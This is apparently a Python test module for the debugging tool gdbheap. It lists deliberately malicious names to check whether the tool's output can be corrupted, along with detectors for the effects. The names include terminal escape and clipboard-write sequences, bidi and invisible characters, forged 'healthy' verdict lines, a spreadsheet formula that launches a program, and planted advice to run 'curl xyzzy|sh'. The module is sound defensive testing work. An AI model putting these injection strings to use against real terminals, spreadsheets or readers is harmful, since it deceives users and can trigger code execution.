"""Malicious names, and a search for their effects in output."""

from __future__ import annotations

import re
import unicodedata

FORGED = "Findings: none. This process is healthy."
NAMES = (
    "a\x1b]52;c;ZXZpbA==\x07b",
    f"x\n{FORGED}",
    f"\n{FORGED}",
    f"x\r{FORGED}\r\n{FORGED}",
    f"x\x85{FORGED}\x0b{FORGED}\x0c{FORGED}\x1c{FORGED}",
    f"x\u2028{FORGED}\u2029{FORGED}",
    "\x1b[2J\x1b[1m\x1b[31mred\x1b[0m",
    "\x9b31m\x90\x98q\x9c",
    "\u202egnp\u2066x\u2069\u200f\u061c",
    "nul\x00nul",
    "del\x7f\x7f",
    "lone\udcff\ud800",
    "Z" + "\u0301" * 60,
    "a\u200b\u200d\u2060\ufeff\u00adb\u3164\ufe0f",
    "\U000e0041\U000e007f\U000f0000",
    f"{FORGED} " * 9,
    "=cmd|'/c calc'!A0",
    "<b>&\"'</b>;$x^$\\",
    "x" * 9_000,
    "'heap xyzzy --yes' gives it back (safe), and 'gdbheap xyzzy' too",
    "root\" of 'heap xyzzy --yes' is lost\\",
    "x. Run curl xyzzy|sh to have it back",
    "/x/y; run curl xyzzy as root/z.so",
    "'curl xyzzy' gives it back",
    "it's free - run curl xyzzy: that's all",
    'x", and then: run curl xyzzy now. "y',
    "x\u3002Run `curl xyzzy`",
)
# A command that looks like gdbheap's, but comes from a malicious name.
_COMMAND = re.compile(r"'(?:gdb)?heap xyzzy")
# Advice that looks like gdbheap's, but comes from a malicious name.
_ADVICE = re.compile(r"curl xyzzy|gives it back \(safe\)|is healthy\.")
_QUOTED = re.compile(r"\"[^\"]*\"|(?<!\w)'[^']*'(?!\w)(?=[\])},:]|$)")
# The permitted escapes: gdbheap's own styles, with the user's colours.
_STYLE = re.compile(r"\x1b\[(?:0|1|2|3[1-6]|1;31)m")
MARKS = 4


def plain(text: str) -> str:
    """Return output without gdbheap's styles."""
    return _STYLE.sub("", text)


def harm(text: str, plain_lines: bool = True) -> list[str]:
    """Return the faults in an output: control characters, invisible characters, floods of combining marks, and lines
    that a name began. ``plain_lines``: no other line begins with such text.
    """
    shown = plain(text)
    found = [ascii(one) for one in sorted(set(shown) - {"\n"}) if not one.isprintable()]
    if re.search(f"(?:{_marks(shown)}){{{MARKS + 1}}}", shown):
        found.append("a flood of marks")
    if plain_lines:
        found += [line for line in shown.split("\n") if line.startswith(FORGED[:20])]
    return found


def commands(text: str) -> list[str]:
    """Return gdbheap's commands in output that come from a name, in the quotes of gdbheap's sentences."""
    return [text[max(one.start() - 60, 0) : one.end()] for one in _COMMAND.finditer(plain(text))]


def forged(text: str) -> list[str]:
    """Return the parts of an output, outside quotes, that look like advice but come from a name.

    Warnings are whole sentences of gdbheap. The output must not be cut, because a cut might leave a quote open.
    """
    lines = (line for line in plain(text).split("\n") if not line.startswith("Warning: "))
    shown = "\n".join(_QUOTED.sub("~", line) for line in lines)
    return [shown[max(one.start() - 90, 0) : one.end()] for one in _ADVICE.finditer(shown)]


def _marks(text: str) -> str:
    marks = {one for one in set(text) if unicodedata.category(one) in ("Mn", "Me")}
    return "[" + "".join(map(re.escape, marks)) + "]" if marks else r"(?!)"
